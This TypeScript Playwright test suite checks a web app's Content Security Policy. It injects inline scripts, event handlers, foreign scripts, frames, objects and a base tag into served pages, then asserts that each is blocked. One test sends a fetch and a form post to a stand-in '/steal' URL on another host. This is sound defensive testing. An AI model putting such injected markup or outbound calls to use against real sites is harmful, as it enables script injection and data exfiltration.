import type { Page } from '@playwright/test'
import { expect, test } from './support/fixtures.ts'
import { type BrowserErrors, untilHydrated } from './support/phone.ts'

declare global {
  interface Window {
    planted?: string
  }
}

const ELSEWHERE = 'https://elsewhere.example'

/** What is planted into the page, and the directive that it breaks. */
const plants: [what: string, html: string, directive: string][] = [
  ['a script', '<script>window.planted = "ran"</script>', 'script-src-elem inline'],
  ['a handler', '<img src="/favicon.svg" onload="window.planted = 1">', 'script-src-attr inline'],
  ['a script from elsewhere', `<script src="${ELSEWHERE}/a.js"></script>`, 'script-src-elem'],
  ['a style', '<style>main { display: none }</style>', 'style-src-elem inline'],
  ['a picture from elsewhere', `<img src="${ELSEWHERE}/a.png" alt="">`, 'img-src'],
  ['a frame', '<iframe src="/privacy-policy" title=""></iframe>', 'frame-src'],
  ['an object', '<object data="/favicon.svg"></object>', 'object-src'],
]

for (const [what, html, directive] of plants) {
  test(`blocks ${what} in the login page, with one violation`, async ({ page, browserErrors }) => {
    await plant(page, '/login', html)
    await expectOneViolation(page, '/login', browserErrors, directive)
  })
}

for (const path of ['/home', '/game_type/Kesar_Mahal', '/privacy-policy', '/no-such-page']) {
  test(`blocks a script in ${path}, with one violation`, async ({ page, browserErrors }) => {
    browserErrors.allow(/status of 404/)
    await plant(page, path, '<script>window.planted = "ran"</script>')
    await expectOneViolation(page, path, browserErrors, 'script-src-elem inline')
  })
}

test('blocks a script that a script of the page adds later', async ({ page, browserErrors }) => {
  await page.goto('/login')
  await untilHydrated(page)
  await page.evaluate(() => {
    document.body.insertAdjacentHTML('beforeend', '<button onclick="window.planted = 1">!</button>')
    document.querySelector<HTMLElement>('body > button')?.click()
  })
  await expect.poll(() => violations(browserErrors.found)).toHaveLength(1)
  expect(violations(browserErrors.found)[0]).toContain('CSP: script-src-attr inline')
  expect(await page.evaluate(() => window.planted)).toBeUndefined()
  browserErrors.forget()
})

test('blocks calls and forms to other hosts', async ({ page, browserErrors }) => {
  await page.goto('/login')
  await untilHydrated(page)
  await page.evaluate(url => fetch(url).catch(() => {}), `${ELSEWHERE}/steal`)
  await expect.poll(() => violations(browserErrors.found)).toHaveLength(1)
  await page.evaluate(url => {
    const form = document.createElement('form')
    form.action = url
    form.method = 'post'
    document.body.append(form)
    form.submit()
  }, `${ELSEWHERE}/steal`)
  await expect.poll(() => violations(browserErrors.found)).toHaveLength(2)
  expect(violations(browserErrors.found).map(text => text.split(' ')[1])).toEqual([
    'connect-src',
    'form-action',
  ])
  expect(new URL(page.url()).pathname).toBe('/login')
  browserErrors.forget()
})

test('blocks another base URL for links and scripts', async ({ page, browserErrors }) => {
  // Chromium reports a base more than once.
  browserErrors.allow(/base-uri/)
  await plant(page, '/login', `<base href="${ELSEWHERE}/">`)
  await page.goto('/login')
  await untilHydrated(page)
  expect(await page.evaluate(() => document.baseURI)).toBe(page.url())
})

async function expectOneViolation(
  page: Page,
  path: string,
  browserErrors: BrowserErrors,
  directive: string,
): Promise<void> {
  await page.goto(path)
  await page.waitForLoadState('networkidle')
  expect(violations(browserErrors.found)).toHaveLength(1)
  expect(violations(browserErrors.found)[0]).toContain(`CSP: ${directive}`)
  expect(await page.evaluate(() => window.planted)).toBeUndefined()
  await expect(page.locator('main')).toBeVisible()
  browserErrors.forget()
}

/** The page as the server sends it, with something put in as the last thing of its body. */
async function plant(page: Page, path: string, html: string): Promise<void> {
  await page.route(`**${path}`, async route => {
    const answer = await route.fetch()
    const body = (await answer.text()).replace('</body>', () => `${html}</body>`)
    await route.fulfill({ response: answer, body })
  })
}

function violations(found: readonly string[]): string[] {
  return found.filter(text => text.startsWith('CSP: '))
}
